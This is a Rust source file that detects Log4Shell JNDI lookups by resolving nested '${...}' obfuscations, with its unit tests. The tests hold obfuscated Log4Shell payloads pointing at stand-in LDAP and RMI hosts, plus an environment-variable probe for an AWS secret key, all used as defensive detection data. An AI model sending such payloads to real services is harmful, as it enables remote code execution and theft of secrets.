//! JNDI lookups (Log4Shell, CVE-2021-44228).
//!
//! Method: Log4j resolves `${...}` lookups innermost first, so obfuscations build `jndi` out of
//! nested lookups whose value is a letter: `${lower:j}`, `${upper:N}`, `${::-d}`,
//! `${env:NOPE:-i}`, `${date:'j'}`. The detector resolves them the same way, innermost first,
//! each to the text Log4j would give (the default after `:-`, the argument of `lower`/`upper`/
//! `date`, nothing for lookups whose value it cannot know), and flags a `${jndi:` that appears
//! at any step (level 1). Each step removes at least one `${}`, and at most
//! [`MAX_LOOKUP_STEPS`] run. From level 2, lookups that read the environment or system
//! properties (`${env:`, `${sys:`, `${java:`) count too: they exfiltrate through any sink.

use super::{Hit, Value, L2};

/// Lookups resolved per value; a payload nests a few dozen at most.
pub const MAX_LOOKUP_STEPS: usize = 256;

/// JNDI detector.
pub(crate) struct Jndi;

impl Jndi {
    pub(crate) fn detect(&self, v: &Value<'_>, level: u8) -> Option<Hit> {
        let start = memchr::memmem::find(v.lower, b"${")?;
        if let Some(at) = memchr::memmem::find(v.lower, b"${jndi:") {
            return Some(Hit::at("jndi.lookup", at, v.norm.len()));
        }
        let (resolved, _steps) = resolve(v.lower);
        if memchr::memmem::find(&resolved, b"${jndi:").is_some() {
            return Some(Hit::at("jndi.lookup", start, v.norm.len()));
        }
        if level >= L2 {
            for probe in [
                &b"${env:"[..],
                b"${sys:",
                b"${java:",
                b"${ctx:",
                b"${main:",
                b"${bundle:",
            ] {
                if let Some(at) = memchr::memmem::find(v.lower, probe) {
                    return Some(Hit::at("jndi.env-lookup", at, v.norm.len()));
                }
            }
        }
        None
    }
}

/// `lower` with its lookups resolved innermost first until only `${jndi:...}` lookups (or
/// none) remain, or [`MAX_LOOKUP_STEPS`] were resolved; and the number of steps.
pub(crate) fn resolve(lower: &[u8]) -> (Vec<u8>, usize) {
    let mut s = lower.to_vec();
    let mut steps = 0;
    let mut search_from = 0;
    while steps < MAX_LOOKUP_STEPS {
        let Some((open, close)) = innermost(&s, search_from) else {
            break;
        };
        let inner = &s[open + 2..close];
        if inner.starts_with(b"jndi:") {
            // Leave it: it is what we look for. Resolve lookups after it.
            search_from = open + 2;
            steps += 1;
            continue;
        }
        let value = lookup_value(inner);
        s.splice(open..=close, value);
        steps += 1;
    }
    (s, steps)
}

/// The innermost `${...}` at or after `from`: the last `${` before the first `}` after it.
fn innermost(s: &[u8], from: usize) -> Option<(usize, usize)> {
    let first_open = memchr::memmem::find(s.get(from..)?, b"${")? + from;
    let close = memchr::memchr(b'}', &s[first_open..])? + first_open;
    let open = memchr::memmem::rfind(&s[first_open..close], b"${")? + first_open;
    Some((open, close))
}

/// What Log4j gives for a lookup's inner text: the default after `:-`, the argument of
/// `lower:`, `upper:` and `date:` (quotes removed), nothing otherwise.
fn lookup_value(inner: &[u8]) -> Vec<u8> {
    if let Some(at) = memchr::memmem::find(inner, b":-") {
        return inner[at + 2..].to_vec();
    }
    for prefix in [&b"lower:"[..], b"upper:"] {
        if let Some(arg) = inner.strip_prefix(prefix) {
            return arg.to_vec();
        }
    }
    if let Some(arg) = inner.strip_prefix(b"date:") {
        return arg.iter().copied().filter(|b| *b != b'\'').collect();
    }
    Vec::new()
}

#[cfg(test)]
mod tests {
    use super::super::test_util::rule_of;
    use super::super::L1;
    use super::*;

    fn rule(raw: &str, level: u8) -> Option<&'static str> {
        rule_of(raw, "x-api-version", level, |v, l| Jndi.detect(v, l))
    }

    #[test]
    fn obfuscations() {
        for attack in [
            "${jndi:ldap://x.example/a}",
            "${JNDI:rmi://x/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://10.10.10.10:1389/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
            "${j${loWer:Nd}i${uPper::}://10.10.10.10:1389/poc}",
            "${${lower:jndi}:${lower:rmi}://10.10.10.10:1389/poc}",
            "${${upper:j}${date:'n'}di:dns://x}",
            "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D",
            "${${lower:${lower:j}}ndi:ldap://x}",
        ] {
            assert_eq!(rule(attack, L1), Some("jndi.lookup"), "{attack}");
        }
    }

    #[test]
    fn environment_lookups_from_level_2() {
        assert_eq!(
            rule("${env:AWS_SECRET_ACCESS_KEY}", L2),
            Some("jndi.env-lookup")
        );
        assert_eq!(rule("${env:AWS_SECRET_ACCESS_KEY}", L1), None);
    }

    #[test]
    fn tricky_benign() {
        for benign in [
            "Total: ${price}",
            "${HOME}/bin",
            "echo ${name:-world}",
            "jndi is a Java API",
            "${{",
            "${",
        ] {
            assert_eq!(rule(benign, L2), None, "{benign}");
        }
    }

    #[test]
    fn resolution_is_bounded() {
        let nested = "${".repeat(10_000) + &"}".repeat(10_000);
        let (_, steps) = resolve(nested.as_bytes());
        assert!(steps <= MAX_LOOKUP_STEPS);
    }
}
